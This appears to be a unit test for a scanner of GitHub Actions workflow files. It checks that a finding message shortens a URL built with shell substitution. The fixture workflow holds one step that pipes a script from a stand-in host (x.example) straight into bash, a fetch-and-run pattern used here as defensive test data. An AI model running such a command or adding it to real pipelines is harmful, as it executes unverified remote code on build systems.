import assert from "node:assert/strict";
import { analyze, DEFAULT_SETTINGS, EMPTY_CONTEXT } from "../../server/core/index.ts";

describe("a message", () => {
  it("has an ellipsis where only the run knows a part of an address", () => {
    const text = `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -fsSL "https://x.example/tool-$(uname -m).sh" | bash
`;
    const { findings } = analyze({ path: ".github/workflows/a.yml", text }, EMPTY_CONTEXT, DEFAULT_SETTINGS);
    assert.match(findings[0]?.message ?? "", /https:\/\/x\.example\/tool-…\.sh/);
  });
});
